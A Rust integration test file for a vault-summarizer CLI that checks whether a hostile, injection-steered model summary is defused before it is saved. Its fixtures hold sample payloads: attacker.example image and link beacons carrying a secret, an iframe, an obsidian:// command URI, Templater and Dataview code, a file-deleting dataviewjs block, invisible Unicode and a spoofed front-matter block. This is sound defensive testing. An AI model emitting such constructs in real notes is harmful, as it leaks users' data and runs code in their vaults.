//! Summaries are data (issue 35), through the real binary: a fake model (and a fake Kagi)
//! answering with a hostile summary; the note written by `summarize-file` (append and
//! `--into both`), a rollup's `--save-to` note and a web page's `--save-to` note hold none of
//! the constructs, keep the legitimate parts, and the result reports `details.defused`. Then
//! the offline engine over the vendored real vault: what the policy changes there, and why.

use crate::support;

use serde_json::{json, Value};
use support::cli::vaultsum;
use support::fake_kagi::{envelope, ok, vaultsum_command, FakeKagi, TEST_KEY};
use support::fake_openai::{FakeOpenAi, FakeReply};
use support::temp_vault::{real_vault_source, TempVault};

/// The page the note was clipped from: the one URL a summary of it may link to.
const SOURCE_URL: &str = "https://news.example/story";

/// A note clipped from a page, with its URL.
fn clipped_note() -> String {
    format!("# Budget\n\nClipped from {SOURCE_URL}.\n\nThe budget was approved on Monday.\n")
}

/// What a model steered by an injection in the page answers.
fn hostile_summary() -> String {
    format!(
        "### Key Points\n\
         - The budget was approved. See [the story]({SOURCE_URL}).\n\
         - ![chart](https://attacker.example/p.png?d=SECRET)\n\
         - <iframe src=\"https://attacker.example/frame\"></iframe>\n\
         - [details](https://attacker.example/?d=SECRET) and [open](obsidian://advanced-uri?commandid=x)\n\
         - <% tp.system.prompt() %>\n\
         - Owner: `= this.file.name`\n\
         - Hidden\u{E0041}\u{E0042} text\u{202E}\n\
         \n\
         ```dataviewjs\n\
         app.vault.adapter.remove(\"x\")\n\
         ```\n\
         \n\
         ### Action Items\n\
         - [ ] Call [[Dana]] about the rollout\n"
    )
}

/// Every hostile construct of [`hostile_summary`], none of which may be in a written note.
const FORBIDDEN: [&str; 9] = [
    "](https://attacker.example",
    "<iframe",
    "](obsidian:",
    "<%",
    "```dataviewjs",
    "`= this",
    "\u{E0041}",
    "\u{202E}",
    "https://attacker.example/?d=SECRET)",
];

/// The legitimate parts, which must all be there as the model wrote them.
fn legitimate() -> Vec<String> {
    vec![
        "### Key Points".to_string(),
        format!("- The budget was approved. See [the story]({SOURCE_URL})."),
        "### Action Items\n- [ ] Call [[Dana]] about the rollout".to_string(),
        // Markers are text: their brackets escaped, so no note definition makes them links.
        "\\[image removed: attacker.example\\]".to_string(),
        "details \\[link removed: attacker.example\\]".to_string(),
    ]
}

fn assert_inert_and_whole(note: &str) {
    for construct in FORBIDDEN {
        assert!(!note.contains(construct), "{construct:?} written:\n{note}");
    }
    for part in legitimate() {
        assert!(note.contains(&part), "{part:?} missing:\n{note}");
    }
}

/// The counts every hostile summary above must report (the property's, for `both`, add to them).
fn assert_reported(defused: &Value) {
    for (kind, at_least) in [
        ("remote_images", 1),
        ("html", 1),
        ("links", 2),
        ("code_blocks", 1),
        ("inline_code", 1),
        ("templater", 1),
        ("invisible", 3),
    ] {
        assert!(
            defused[kind].as_u64().unwrap_or(0) >= at_least,
            "{kind} in {defused}"
        );
    }
}

/// The counts a `-v` result line names (`…; defused: links 2, remote_images 1`), by the path
/// the line starts with (`← ✓ Clip.md: …`).
fn defused_by_path(stderr: &[u8]) -> std::collections::BTreeMap<String, Value> {
    let mut found = std::collections::BTreeMap::new();
    for line in String::from_utf8_lossy(stderr).lines() {
        let Some(rest) = line.strip_prefix("← ✓ ") else {
            continue;
        };
        let Some((path, _)) = rest.split_once(": ") else {
            continue;
        };
        let mut counts = serde_json::Map::new();
        if let Some((_, named)) = rest.split_once("; defused: ") {
            for part in named.split(", ") {
                let (kind, n) = part.rsplit_once(' ').expect("`kind n`");
                counts.insert(kind.to_string(), json!(n.parse::<u64>().unwrap()));
            }
        }
        found.insert(path.to_string(), Value::Object(counts));
    }
    found
}

fn json_lines(stdout: &[u8]) -> Vec<Value> {
    String::from_utf8_lossy(stdout)
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON line"))
        .collect()
}

#[test]
fn summarize_file_appends_a_hostile_answer_inert_and_says_so() {
    let vault = TempVault::with(&[("Clip.md", &clipped_note())]);
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(&hostile_summary()));
    let output = vaultsum(&vault.outside())
        .envs(fake.env())
        // The answer is made up to test the output policy, not a summary of the note: the fact check
        // (fact_check.rs) would take its facts out.
        .env("VAULTSUM_FACT_CHECK", "off")
        .arg("--vault")
        .arg(vault.root())
        .args(["-v", "summarize-file", "--json", "Clip.md"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let note = String::from_utf8(vault.read("Clip.md")).unwrap();
    assert!(
        note.starts_with(&clipped_note()),
        "the note's own text changed"
    );
    assert_inert_and_whole(&note);
    let printed = &json_lines(&output.stdout)[0];
    // What was written, not what the model said.
    let written = note.split("## Summary\n").nth(1).unwrap();
    let written = written.split_once("-->\n\n").unwrap().1.trim_end();
    assert_eq!(printed["summary_length"], json!(written.chars().count()));
    // `-v` names what was made inert.
    assert_reported(&defused_by_path(&output.stderr)["Clip.md"]);
}

#[test]
fn into_both_keeps_the_property_plain_text() {
    let vault = TempVault::with(&[("Clip.md", &clipped_note())]);
    let fake = FakeOpenAi::start();
    let answer = format!(
        "{}\n<abstract>\nApproved ([the story]({SOURCE_URL})), see [this](https://attacker.example/?d=1) ![x](https://attacker.example/p.png) `= this.x` <b>now</b> <% x %>.\n</abstract>\n",
        hostile_summary(),
    );
    fake.set_fallback(FakeReply::chat(&answer));
    let output = vaultsum(&vault.outside())
        .envs(fake.env())
        // The answer is made up to test the output policy, not a summary of the note: the fact check
        // (fact_check.rs) would take its facts out.
        .env("VAULTSUM_FACT_CHECK", "off")
        .arg("--vault")
        .arg(vault.root())
        .args([
            "-v",
            "summarize-file",
            "--into",
            "both",
            "--json",
            "Clip.md",
        ])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let note = String::from_utf8(vault.read("Clip.md")).unwrap();
    assert_inert_and_whole(&note);
    let property = note
        .lines()
        .find(|line| line.starts_with("summary: "))
        .expect("the summary property");
    for construct in ["](", "![", "`", "<b>", "<%", "attacker.example/?d=1"] {
        assert!(!property.contains(construct), "{construct:?} in {property}");
    }
    // Even a link the section may keep is only its text in the property.
    assert!(
        property.contains("Approved (the story), see this"),
        "{property}"
    );
    let defused = &defused_by_path(&output.stderr)["Clip.md"];
    assert_reported(defused);
    assert!(
        defused["property_markup"].as_u64().unwrap() >= 1,
        "{defused}"
    );
}

#[test]
fn a_rollup_saved_to_a_note_is_inert() {
    let vault = TempVault::with(&[
        ("Notes/Clip.md", &clipped_note()),
        (
            "Notes/Other.md",
            "# Other\n\nA second note about the rollout plan.\n",
        ),
        ("Reviews/.keep", ""),
    ]);
    let fake = FakeOpenAi::start();
    fake.set_fallback(FakeReply::chat(&hostile_summary()));
    let output = vaultsum(&vault.outside())
        .envs(fake.env())
        // The answer is made up to test the output policy, not a summary of the note: the fact check
        // (fact_check.rs) would take its facts out.
        .env("VAULTSUM_FACT_CHECK", "off")
        .arg("--vault")
        .arg(vault.root())
        .args(["rollup", "Notes", "--save-to", "Reviews/Week.md", "--json"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let note = String::from_utf8(vault.read("Reviews/Week.md")).unwrap();
    assert!(note.starts_with("---\nrollup: "), "{note}");
    assert_inert_and_whole(&note);
    assert!(note.contains("### Sources\n- [[Notes/Clip]]"), "{note}");
    let printed = &json_lines(&output.stdout)[0];
    assert_reported(&printed["details"]["defused"]);
    for construct in FORBIDDEN {
        assert!(
            !printed["text"].as_str().unwrap().contains(construct),
            "the rollup handed back holds {construct:?}"
        );
    }
}

#[tokio::test]
async fn a_web_page_saved_to_a_note_may_link_only_to_itself() {
    let fake = FakeKagi::start();
    fake.on_summarize(ok(envelope(
        json!({"output": hostile_summary(), "tokens": 42}),
    )));
    let vault = TempVault::with(&[("Clippings/.keep", "")]);
    let output = vaultsum_command(&fake.base_url(), Some(TEST_KEY))
        .arg("--vault")
        .arg(vault.root())
        .args([
            "summarize",
            SOURCE_URL,
            "--save-to",
            "Clippings/Story.md",
            "--json",
        ])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let note = String::from_utf8(vault.read("Clippings/Story.md")).unwrap();
    assert!(
        note.starts_with(&format!("---\nsource: \"{SOURCE_URL}\"\n")),
        "{note}"
    );
    assert_inert_and_whole(&note);
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_reported(&printed["details"]["defused"]);
}

#[test]
fn an_answer_starting_with_a_front_matter_block_never_becomes_one() {
    let vault = TempVault::with(&[("Clippings/.keep", "")]);
    let fake = FakeKagi::start();
    fake.on_summarize(ok(envelope(json!({
        "output": "---\ncssclasses: [hidden]\ntags: [pwned]\n---\n- The point.",
        "tokens": 3
    }))));
    let output = vaultsum_command(&fake.base_url(), Some(TEST_KEY))
        .arg("--vault")
        .arg(vault.root())
        .args([
            "summarize",
            SOURCE_URL,
            "--save-to",
            "Clippings/Story.md",
            "--json",
        ])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let note = String::from_utf8(vault.read("Clippings/Story.md")).unwrap();
    assert!(
        !note.contains("cssclasses") && !note.contains("pwned"),
        "{note}"
    );
    assert!(
        note.ends_with(" -->\n\n\\[front matter removed\\]\n\n- The point.\n\n> [!info] Not checked\n> Kagi returns the summary without the page's text, so its names and numbers could not be checked against the page.\n"),
        "{note}"
    );
}

/// The offline engine copies a note's own sentences, so its summaries link where the note
/// links, and the policy changes one only where the note itself carries such a construct (an
/// `<%` in a code example, raw HTML, a bare URL it shows as text). Prints the figure.
#[test]
fn offline_summaries_of_a_real_vault_change_only_where_the_note_carries_the_construct() {
    let vault = TempVault::copy_of(&real_vault_source());
    let output = vaultsum(&vault.outside())
        .arg("--vault")
        .arg(vault.root())
        .args([
            "-v",
            "summarize-file",
            "--engine",
            "local",
            "--dry-run",
            "--json",
            ".",
        ])
        .output()
        .unwrap();
    let results = defused_by_path(&output.stderr);
    assert!(results.len() >= 100, "{} results", results.len());
    let mut changed = Vec::new();
    let mut by_kind = std::collections::BTreeMap::<String, u64>::new();
    for (path, defused) in &results {
        let defused = defused.as_object().unwrap();
        if defused.is_empty() {
            continue;
        }
        let path = path.clone();
        let note = String::from_utf8_lossy(&vault.read(&path)).into_owned();
        for (kind, count) in defused {
            *by_kind.entry(kind.clone()).or_default() += count.as_u64().unwrap();
            let carried = match kind.as_str() {
                "templater" => note.contains("<%"),
                "html" => note.contains('<'),
                "links" | "remote_images" => note.contains("://") || note.contains("www."),
                "code_blocks" => note.contains("```") || note.contains("~~~"),
                "inline_code" => {
                    note.contains("`=") || note.contains("`$=") || note.contains("` =")
                }
                "invisible" => note.chars().any(|c| {
                    c.is_control() && !matches!(c, '\n' | '\r' | '\t')
                        || ('\u{200B}'..='\u{206F}').contains(&c)
                        || c == '\u{FEFF}'
                }),
                _ => false,
            };
            assert!(
                carried,
                "{path}: {kind} defused, but the note has no such construct"
            );
        }
        changed.push(path);
    }
    eprintln!(
        "output policy on {} offline summaries of the real vault: {} changed {:?}; by kind {:?}",
        results.len(),
        changed.len(),
        changed,
        by_kind
    );
}
